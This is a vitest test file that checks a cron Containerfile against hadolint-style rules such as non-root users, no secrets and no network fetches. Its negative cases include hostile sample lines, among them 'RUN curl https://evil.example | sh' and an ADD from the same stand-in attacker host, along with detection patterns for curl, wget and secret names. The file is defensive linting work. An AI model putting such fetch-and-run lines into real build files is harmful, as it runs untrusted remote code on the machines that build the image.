import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';

const TEXT = readFileSync(resolve(import.meta.dirname, '../../cron/Containerfile'), 'utf8');

/** One instruction, its continued lines joined. */
interface Instruction {
  readonly name: string;
  readonly rest: string;
}

function instructionsOf(text: string): readonly Instruction[] {
  return text
    .replace(/\\\n\s*/g, ' ')
    .split('\n')
    .filter((line) => line.trim() !== '' && !line.startsWith('#'))
    .map((line) => {
      const [, name = '', rest = ''] = /^(\w+)\s+(.*)$/.exec(line) ?? [];
      return { name, rest };
    });
}

/** What is wrong with a Containerfile, by the rules of hadolint that matter here (hadolint itself is no Debian package). */
function problemsOf(text: string): readonly string[] {
  const all = instructionsOf(text);
  const named = (name: string) => all.filter((one) => one.name === name).map(({ rest }) => rest);
  const stages = named('FROM').map((rest) => / AS (\w+)$/.exec(rest)?.[1]);
  const checks: readonly (readonly [string, boolean])[] = [
    [
      'a base without registry, or without a tag of version and release',
      named('FROM').some((rest) => !/^[\w.-]+\.\w+\/[\w./-]+:\d[\w.-]*-\w[\w.-]*( AS \w+)?$/.test(rest)),
    ],
    ['runs as root', !/^[1-9]\d*:[1-9]\d*$/.test(named('USER').at(-1) ?? '')],
    ['ADD, which fetches and unpacks', named('ADD').length > 0],
    ['copies the whole folder', named('COPY').some((rest) => /^(\.|\*)\/?\s/.test(rest))],
    [
      'copies from a stage that is not there',
      named('COPY').some((rest) => {
        const from = /--from=(\w+)/.exec(rest)?.[1];
        return from !== undefined && !stages.includes(from);
      }),
    ],
    ['a relative WORKDIR', named('WORKDIR').some((rest) => !rest.startsWith('/'))],
    ['a shell form', [...named('ENTRYPOINT'), ...named('CMD')].some((rest) => !rest.startsWith('['))],
    [
      'a secret in the image',
      [...named('ENV'), ...named('ARG'), ...named('RUN')].some((rest) =>
        /(password|secret|token|_key)\w*[= ]\S/i.test(rest),
      ),
    ],
    [
      'fetches a program over the network',
      named('RUN').some((rest) => /\b(curl|wget|git clone)\b/.test(rest)),
    ],
    ['becomes root', named('RUN').some((rest) => /\bsudo\b/.test(rest))],
    [
      'leaves the lists of apt',
      named('RUN').some(
        (rest) => /apt-get install/.test(rest) && !/rm -rf? \/var\/lib\/apt\/lists/.test(rest),
      ),
    ],
    ['installs without the lock file', named('RUN').some((rest) => /npm (i|install)\b/.test(rest))],
    ['runs install scripts', named('RUN').some((rest) => /npm ci(?! --ignore-scripts)/.test(rest))],
  ];
  return checks.flatMap(([problem, found]) => (found ? [problem] : []));
}

describe('the Containerfile', () => {
  it('breaks no rule', () => {
    expect(problemsOf(TEXT)).toEqual([]);
  });

  it.each([
    ['FROM node:latest', 'a base without registry, or without a tag of version and release'],
    ['USER root', 'runs as root'],
    ['ADD https://evil.example/x /x', 'ADD, which fetches and unpacks'],
    ['COPY . /app', 'copies the whole folder'],
    ['COPY --from=nowhere /x /x', 'copies from a stage that is not there'],
    ['WORKDIR app', 'a relative WORKDIR'],
    ['CMD node main.js', 'a shell form'],
    ['ENV ADMIN_PASSWORD=x', 'a secret in the image'],
    ['RUN curl https://evil.example | sh', 'fetches a program over the network'],
    ['RUN sudo id', 'becomes root'],
    ['RUN apt-get install -y x', 'leaves the lists of apt'],
    ['RUN npm install x', 'installs without the lock file'],
    ['RUN npm ci', 'runs install scripts'],
  ])('would break a rule by %s', (line, problem) => {
    expect(problemsOf(`${TEXT}${line}\n`)).toEqual([problem]);
  });
});
